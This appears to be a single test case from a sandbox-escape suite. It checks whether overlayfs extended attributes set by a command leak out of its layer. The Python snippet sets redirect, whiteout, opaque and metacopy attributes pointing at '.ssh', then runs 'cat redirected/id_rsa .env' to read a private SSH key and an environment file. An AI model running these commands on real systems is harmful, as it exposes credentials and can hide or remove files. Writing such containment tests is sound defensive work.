# Attributes of an overlay that the command sets stay in its layer.
# Source: third review, held
# Escape: a secret is printed, or a file of the project is gone
python3 -c '
import os
for name, value in [("user.overlay.opaque", b"y"), ("user.overlay.redirect", b"/../../../.ssh"), ("user.overlay.whiteout", b"y"), ("user.overlay.origin", b"x"), ("trusted.overlay.redirect", b"/.ssh"), ("user.overlay.metacopy", b"x")]:
    os.makedirs("redirected", exist_ok=True)
    for place in ["src", "redirected", "a.txt", "."]:
        try: os.setxattr(place, name, value)
        except OSError as error: print(place, error)
'; ls redirected src; cat redirected/id_rsa .env
